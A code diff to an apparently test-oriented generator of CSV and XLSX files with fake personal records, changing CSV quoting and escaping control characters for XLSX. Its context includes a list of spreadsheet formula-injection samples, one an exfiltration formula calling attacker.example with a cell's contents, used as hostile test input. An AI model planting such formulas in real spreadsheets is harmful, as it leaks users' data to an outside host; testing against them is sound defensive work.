@@ -18,9 +18,9 @@ mistakes (``mistakes()``, each with the problem code the review table must repor
 from __future__ import annotations
 
 import argparse
-import csv
 import io
 import random
+import re
 import unicodedata
 from collections.abc import Iterable, Sequence
 from dataclasses import dataclass, field
@@ -151,6 +151,7 @@ WEIGHTS = {
     "japanese": 5,
     "korean": 5,
 }
+CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")
 DOMAINS = ["example.com", "example.org", "uni.example.edu", "mail.example.net"]
 FORMULAS = [
     '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
@@ -325,13 +326,20 @@ def csv_bytes(
             heading.title() if not heading.startswith("custom_") else heading
             for heading in table[0]
         ]
-    buffer = io.StringIO(newline="")
-    writer = csv.writer(buffer, delimiter=delimiter, lineterminator=line_end)
-    writer.writerows(table)
-    text = buffer.getvalue()
+    text = "".join(_csv_line(cells, delimiter) + line_end for cells in table)
     if encoding.lower().replace("-", "") in ("utf16", "utf32"):
         return text.encode(encoding)  # Python writes the byte order mark itself
     return (b"\xef\xbb\xbf" if bom else b"") + text.encode(encoding)
+
+
+def _csv_line(cells: Sequence[str], delimiter: str) -> str:
+    # As spreadsheets write it: quoted when holding the delimiter, a quote or any line break
+    # (the csv module quotes only the line end it writes, so "\n" in a CR file went bare).
+    special = (delimiter, '"', "\r", "\n")
+    return delimiter.join(
+        '"' + cell.replace('"', '""') + '"' if any(ch in cell for ch in special) else cell
+        for cell in cells
+    )
 
 
 def xlsx_bytes(
@@ -352,6 +360,8 @@ def xlsx_bytes(
     for values in _table(list(people), custom_fields):
         cells = [None] * (first_column - 1)
         for value in values:
+            # XML cannot hold control characters: Excel writes them as _xHHHH_ escapes.
+            value = CONTROL.sub(lambda found: f"_x{ord(found.group()):04X}_", value)
             cell = WriteOnlyCell(sheet, value=value)
             cell.data_type = "s"  # "=1+2" typed as text stays text
             cells.append(cell)
